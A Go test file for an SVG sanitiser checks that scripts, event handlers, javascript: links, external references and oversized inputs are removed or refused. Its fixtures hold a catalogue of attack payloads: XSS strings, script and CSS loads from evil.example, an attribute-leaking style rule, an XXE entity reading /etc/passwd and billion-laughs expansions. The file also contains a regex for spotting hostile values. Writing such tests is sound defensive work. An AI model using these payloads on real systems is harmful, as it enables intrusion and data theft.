package picture

import (
	"bytes"
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/roundel/roundel/internal/fault"
)

const svgHead = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`

const redSquare = `<rect width="10" height="10" fill="red"/>`

func svgOf(body string) []byte { return []byte(svgHead + body + "</svg>") }

func tinyPNG() []byte {
	var b bytes.Buffer
	img := image.NewNRGBA(image.Rect(0, 0, 20, 20))
	for i := range 400 {
		img.SetNRGBA(i%20, i/20, color.NRGBA{0, 200, 0, 255})
	}
	_ = png.Encode(&b, img)
	return b.Bytes()
}

// TestAttacksAreDisarmed gives each known attack and wants a clean picture
// that still shows the red square.
func TestAttacksAreDisarmed(t *testing.T) {
	pngData := "data:image/png;base64," + base64.StdEncoding.EncodeToString(tinyPNG())
	for name, body := range map[string]string{
		"script":                       `<script>alert(1)</script>`,
		"script with href":             `<script xlink:href="https://evil.example/x.js"/>`,
		"script in capitals":           `<SCRIPT>alert(1)</SCRIPT>`,
		"script of the XHTML space":    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
		"script under a prefix":        `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`,
		"script in CDATA":              `<title><![CDATA[</title><script>alert(1)</script>]]></title>`,
		"event attribute":              `<g onload="alert(1)" onClick="alert(1)"/>`,
		"event attribute in a space":   `<g xmlns:e="urn:e" e:onload="alert(1)"/>`,
		"foreignObject":                `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject>`,
		"link with javascript":         `<a xlink:href="javascript:alert(1)"><circle r="1"/></a>`,
		"link with tab in javascript":  "<a href=\"java\tscript:alert(1)\"><circle r='1'/></a>",
		"image from outside":           `<image xlink:href="https://evil.example/p.png" width="5" height="5"/>`,
		"image of SVG data":            `<image href="data:image/svg+xml;base64,PHN2Zy8+" width="5" height="5"/>`,
		"image that is no PNG":         `<image href="data:image/png;base64,PHN2Zy8+" width="5" height="5"/>`,
		"image with data and a tail":   `<image href="` + pngData + `" onerror="alert(1)" width="5" height="5"/>`,
		"use from outside":             `<use href="https://evil.example/x.svg#a"/>`,
		"use of data":                  `<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>`,
		"gradient from outside":        `<linearGradient id="g" href="//evil.example/g.svg#x"/>`,
		"fill from outside":            `<circle r="1" fill="url(https://evil.example/f.svg#p)"/>`,
		"fill with escaped address":    `<circle r="1" fill="u\72l(https://evil.example)"/>`,
		"style attribute with address": `<circle r="1" style="fill:url('//evil.example/x');background-image:url(//evil.example/y)"/>`,
		"style with import":            `<style>@import url(https://evil.example/x.css); .a{fill:red}</style>`,
		"style with font":              `<style>@font-face{font-family:x;src:url(//evil.example/f)} .a{fill:url(//evil.example/f)}</style>`,
		"style that leaks attributes":  `<style>rect[fill^="r"]{background:url(//evil.example/r)}</style>`,
		"style with expression":        `<circle r="1" style="width:expression(alert(1))"/>`,
		"animation of href":            `<a id="x" href="#y"><circle r="1"/><animate attributeName="href" values="javascript:alert(1)"/></a><set attributeName="onload" to="alert(1)"/>`,
		"filter with feImage":          `<filter id="f"><feImage href="https://evil.example/x"/></filter><circle r="1" filter="url(#f)"/>`,
		"processing instruction":       `<?xml-stylesheet href="https://evil.example/x.css"?>`,
		"xml:base":                     `<g xml:base="https://evil.example/"><use href="#a"/></g>`,
		"handler element":              `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
		"metadata":                     `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>`,
		"audio, video, iframe, embed":  `<audio src="//evil.example"/><video src="//evil.example"/><iframe src="//evil.example"/><embed src="//evil.example"/><object data="//evil.example"/>`,
		"id that breaks out":           `<g id='"/&gt;&lt;script&gt;'/>`,
		"attribute that breaks out":    `<g transform='"/&gt;&lt;script&gt;alert(1)&lt;/script&gt;'/>`,
		"comment":                      `<!-- <script>alert(1)</script> -->`,
		"cursor and clip from outside": `<g cursor="url(//evil.example)" clip-path="url(//evil.example#c)" mask="url('https://evil.example#m')"/>`,
		"baked credential":             `<ob:credential xmlns:ob="https://purl.imsglobal.org/ob/v3p0" verify="https://evil.example">{}</ob:credential>`,
		"text and textPath":            `<text><tspan>hi</tspan><textPath href="//evil.example#p">hi</textPath></text>`,
	} {
		t.Run(name, func(t *testing.T) {
			clean, err := SanitizeSVG(svgOf(body + redSquare))
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, clean)
			again, err := SanitizeSVG(clean)
			if err != nil || !bytes.Equal(again, clean) {
				t.Errorf("cleaning twice gives something else: %v\n%s\n%s", err, clean, again)
			}
			file, err := RasterizeSVG(clean, 32)
			if err != nil {
				t.Fatal(err)
			}
			if r, g, _, a := decode(t, file).At(16, 16).RGBA(); r != 0xffff || g != 0 || a != 0xffff {
				t.Errorf("the red square is gone: %s", clean)
			}
		})
	}
}

var outsideValue = regexp.MustCompile(`(?i)evil|javascript|alert|//|url\([^#]|expression|@import|\\`)

// harmless fails when clean SVG holds anything that is not on the list, read
// by a parser that knows nothing of the sanitiser.
func harmless(t testing.TB, clean []byte) {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(clean))
	inWords := 0
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("not well-formed: %v\n%s", err, clean)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if !slices.Contains(strings.Fields(`svg g defs symbol use title desc path rect circle ellipse line polyline polygon linearGradient
				radialGradient stop clipPath mask pattern image text tspan`), tok.Name.Local) || tok.Name.Space != svgSpace {
				t.Errorf("has <%s> of %q", tok.Name.Local, tok.Name.Space)
			}
			if slices.Contains([]string{"title", "desc", "text", "tspan"}, tok.Name.Local) {
				inWords++
			}
			for _, a := range tok.Attr {
				if a.Name.Local == "xmlns" && a.Value == svgSpace {
					continue
				}
				if a.Name.Space != "" || strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "style" || a.Name.Local == "class" {
					t.Errorf("has the attribute %s", a.Name.Local)
				}
				if a.Name.Local == "href" && (strings.HasPrefix(a.Value, "#") || strings.HasPrefix(a.Value, "data:image/png;base64,") || strings.HasPrefix(a.Value, "data:image/jpeg;base64,")) {
					continue
				}
				if a.Name.Local != "aria-label" && outsideValue.MatchString(a.Value) || a.Name.Local == "href" {
					t.Errorf("has %s=%q", a.Name.Local, a.Value)
				}
			}
		case xml.EndElement:
			if slices.Contains([]string{"title", "desc", "text", "tspan"}, tok.Name.Local) {
				inWords--
			}
		case xml.CharData:
			if inWords == 0 && strings.TrimSpace(string(tok)) != "" {
				t.Errorf("has the text %q", tok)
			}
		case xml.Directive, xml.ProcInst, xml.Comment:
			t.Errorf("has %T", tok)
		}
	}
}

// TestAttacksAreRefused gives each attack that no clean picture can be made of.
func TestAttacksAreRefused(t *testing.T) {
	laughs := `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + svgHead + `<title>&b;</title></svg>`
	xxe := `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + svgHead + `<text>&x;</text></svg>`
	var useLaughs strings.Builder
	useLaughs.WriteString(`<g id="u0"><path d="M0 0h1"/></g>`)
	for i := 1; i < 9; i++ {
		fmt.Fprintf(&useLaughs, `<g id="u%d">%s</g>`, i, strings.Repeat(fmt.Sprintf(`<use href="#u%d"/>`, i-1), 10))
	}
	for name, c := range map[string]struct{ svg, says string }{
		"billion laughs":               {laughs, "entities"},
		"external entity":              {xxe, "entities"},
		"external DTD with a subset":   {`<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd" []>` + svgHead + `</svg>`, "entities"},
		"undeclared entity":            {svgHead + `<title>&nbsp;</title></svg>`, "not well-formed"},
		"laughs by use":                {svgHead + useLaughs.String() + "</svg>", "repeats"},
		"use in a circle":              {svgHead + `<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`, "itself"},
		"use of its own parent":        {svgHead + `<g id="a"><use href="#a"/></g></svg>`, "itself"},
		"mask in a circle":             {svgHead + `<mask id="m"><rect mask="url(#m)" width="1" height="1"/></mask>` + redSquare + `</svg>`, "itself"},
		"gradient in a circle":         {svgHead + `<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/></svg>`, "itself"},
		"too many elements":            {svgHead + strings.Repeat("<g/>", maxSVGElements+1) + "</svg>", "elements"},
		"too many elements left out":   {svgHead + "<script>" + strings.Repeat("<g/>", maxSVGElements+1) + "</script></svg>", "elements"},
		"too deep":                     {svgHead + strings.Repeat("<g>", 100) + strings.Repeat("</g>", 100) + "</svg>", "deep"},
		"too deep in what is left out": {svgHead + "<script>" + strings.Repeat("<g>", 100) + strings.Repeat("</g>", 100) + "</script></svg>", "deep"},
		"too many attributes":          {strings.Replace(svgHead, "<svg", "<svg"+manyAttrs(70), 1) + "</svg>", "attributes"},
		"too large":                    {svgHead + "<!--" + strings.Repeat("x", maxSVGBytes) + "--></svg>", "512 kB"},
		"not closed":                   {svgHead + "<g>", "not well-formed"},
		"two roots":                    {svgHead + "</svg>" + svgHead + "</svg>", "one document"},
		"not SVG":                      {"<html><body/></html>", "not an SVG"},
		"SVG of another space":         {`<svg xmlns="urn:x"/>`, "not an SVG"},
		"no size":                      {`<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>`, "how large"},
		"no area":                      {`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"/>`, "how large"},
		"size without end":             {`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e300 1e300"/>`, "how large"},
		"odd encoding":                 {`<?xml version="1.0" encoding="EBCDIC"?>` + svgHead + "</svg>", "encoding"},
		"invalid UTF-8":                {svgHead + "<title>\xff\xfe</title></svg>", "not well-formed"},
		"only words":                   {"hello", "no SVG"},
	} {
		t.Run(name, func(t *testing.T) {
			clean, err := SanitizeSVG([]byte(c.svg))
			if fault.KindOf(err) != fault.Invalid || !strings.Contains(fault.Message(err), c.says) {
				t.Errorf("got %.100q, %v; want a sentence with %q", clean, err, c.says)
			}
		})
	}
}

func manyAttrs(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d="1"`, i)
	}
	return b.String()
}

// Work is counted, not timed: each of these would draw for very long.
func TestDrawingIsBounded(t *testing.T) {
	wide := strings.Repeat(`<rect width="10" height="10" fill="red" opacity=".9"/>`, 4000)
	zigzag := `<path stroke="red" fill-rule="evenodd" d="M0 0` + strings.Repeat("L10 10L0 0L10 0L0 10", 20_000) + `"/>`
	for name, body := range map[string]string{"many layers": wide, "many edges": zigzag} {
		if _, err := RasterizeSVG(svgOf(body), 512); fault.KindOf(err) != fault.Invalid || !strings.Contains(fault.Message(err), "complicated") {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, body := range map[string]string{
		"tiny dashes":       `<path stroke="red" stroke-width="1" stroke-dasharray="0.000001 0.000001" d="M0 0L10 10"/>`,
		"zero dashes":       `<path stroke="red" stroke-dasharray="0 0 0" d="M0 0L10 10"/>`,
		"negative dashes":   `<path stroke="red" stroke-dasharray="-1 5" d="M0 0L10 10"/>`,
		"huge numbers":      `<path stroke="red" stroke-width="1e9" d="M-1e9 0L1e9 1e9C1e9 -1e9 1e9 1e9 0 0A1e9 1 45 1 1 5 5"/>`,
		"no numbers":        `<path d="M NaN InfinityL 1e999 5"/><circle r="NaN"/><rect width="-5" height="1e400"/>`,
		"flattening":        `<g transform="scale(0)"><circle r="4" stroke="red"/></g><g transform="matrix(1e300 0 0 1e300 0 0)"><circle r="1e9"/></g>`,
		"empty polygons":    `<polygon points=""/><polyline points="1"/><polygon points="1 1"/><path d="M"/><path d="M1 1z z z m2 2z"/>`,
		"gradient extremes": `<radialGradient id="r" r="0"><stop/><stop offset="1"/></radialGradient><linearGradient id="l" x1="5" x2="5"/><circle r="5" fill="url(#r)" stroke="url(#l)"/>`,
	} {
		if _, err := RasterizeSVG(svgOf(body), 64); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestStyleSheetsBecomeAttributes(t *testing.T) {
	clean, err := CleanSVG(svgOf(`<defs><style type="text/css"><![CDATA[ .a, .b { fill : #00f !important; stroke:none }
		/* .a{fill:red} */ #c { fill: lime } rect{stroke:red} ]]></style></defs>
		<rect class="a" width="5" height="5"/><rect class="b" id="c" x="5" width="5" height="5" style="opacity:.5;fill:rgb(0,0,0)"/>`))
	if err != nil {
		t.Fatal(err)
	}
	got := string(clean.SVG)
	for _, want := range []string{`fill="#00f" />`, `fill="rgb(0,0,0)"`, `opacity=".5"`} {
		if !strings.Contains(strings.ReplaceAll(got, "/>", " />"), strings.TrimSuffix(want, " />")) {
			t.Errorf("no %s in %s", want, got)
		}
	}
	if strings.Contains(got, "style") || strings.Contains(got, "class") || strings.Contains(got, "CDATA") {
		t.Errorf("a style is left: %s", got)
	}
}

func TestHonestPicturesSurvive(t *testing.T) {
	in := `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:inkscape="urn:ink" width="20mm" height="20mm" inkscape:version="1.2">
<svg:defs><svg:linearGradient id="a" inkscape:x="1"><svg:stop offset="0" style="stop-color:#ff0000;stop-opacity:1"/><svg:stop offset="1" stop-color="blue"/></svg:linearGradient>
<svg:clipPath id="c"><svg:circle cx="38" cy="38" r="30"/></svg:clipPath></svg:defs>
<svg:g clip-path="url(#c)"><svg:rect width="100%" height="100%" fill="url(#a) red"/></svg:g></svg:svg>`
	clean, err := CleanSVG([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	harmless(t, clean.SVG)
	if !slices.Contains(clean.Removed, "DOCTYPE") {
		t.Errorf("does not tell of the DOCTYPE: %q", clean.Removed)
	}
	file, err := RasterizeSVG(clean.SVG, 64)
	if err != nil {
		t.Fatal(err)
	}
	img := decode(t, file)
	if r, _, b, a := img.At(14, 32).RGBA(); a != 0xffff || r < b {
		t.Errorf("the left is not red: %v", img.At(14, 32))
	}
	if r, _, b, _ := img.At(50, 32).RGBA(); b < r {
		t.Errorf("the right is not blue: %v", img.At(50, 32))
	}
	if _, _, _, a := img.At(3, 3).RGBA(); a != 0 {
		t.Errorf("the clip path does not cut: %v", img.At(3, 3))
	}
}

func TestUTF16SVG(t *testing.T) {
	plain := string(svgOf(redSquare))
	var le bytes.Buffer
	le.WriteString("\xff\xfe")
	for _, r := range plain {
		le.Write([]byte{byte(r), byte(r >> 8)})
	}
	media, clean, err := Accept(le.Bytes())
	if err != nil || media != MediaSVG || !bytes.Contains(clean, []byte("red")) {
		t.Errorf("%s %s %v", media, clean, err)
	}
}

func FuzzSanitizeSVG(f *testing.F) {
	f.Add(svgOf(redSquare))
	f.Add(svgOf(`<style>.a{fill:url(#x)}</style><g class="a" transform="rotate(3,1 1)"><use href="#q"/><path id="q" d="M1 1a1 1 0 013 3s2-2 4 4z" stroke="red" stroke-dasharray="1 2"/></g>`))
	f.Add(svgOf(`<mask id="m"><circle r="3" fill="white"/></mask><g mask="url(#m)" opacity=".4"><image href="data:image/png;base64,iVBORw0KGgo="/></g>`))
	f.Add([]byte("<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>"))
	if svg, err := Compose(Design{}); err == nil {
		f.Add(svg)
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		clean, err := SanitizeSVG(in)
		if err != nil {
			if fault.KindOf(err) != fault.Invalid {
				t.Fatalf("refused without a fault: %v", err)
			}
			return
		}
		harmless(t, clean)
		again, err := SanitizeSVG(clean)
		if err != nil || !bytes.Equal(again, clean) {
			t.Fatalf("cleaning twice gives something else: %v\n%s\n%s", err, clean, again)
		}
		if _, err := RasterizeSVG(clean, 32); err != nil && fault.KindOf(err) != fault.Invalid {
			t.Fatal(err)
		}
	})
}
